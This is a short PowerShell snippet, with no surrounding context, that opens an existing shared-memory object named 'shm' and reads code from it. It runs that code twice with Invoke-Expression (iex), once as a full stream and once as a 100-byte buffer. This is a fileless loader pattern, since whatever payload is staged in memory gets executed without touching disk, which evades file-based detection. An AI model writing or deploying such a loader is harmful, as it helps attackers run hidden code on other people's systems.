$m=[IO.MemoryMappedFiles.MemoryMappedFile]::OpenExisting('shm')
$r=New-Object IO.StreamReader($m.CreateViewStream())
iex $r.ReadToEnd()
$v=$m.CreateViewAccessor()
$b=New-Object byte[] 100
$v.ReadArray(0,$b,0,100)
iex ([Text.Encoding]::UTF8.GetString($b))
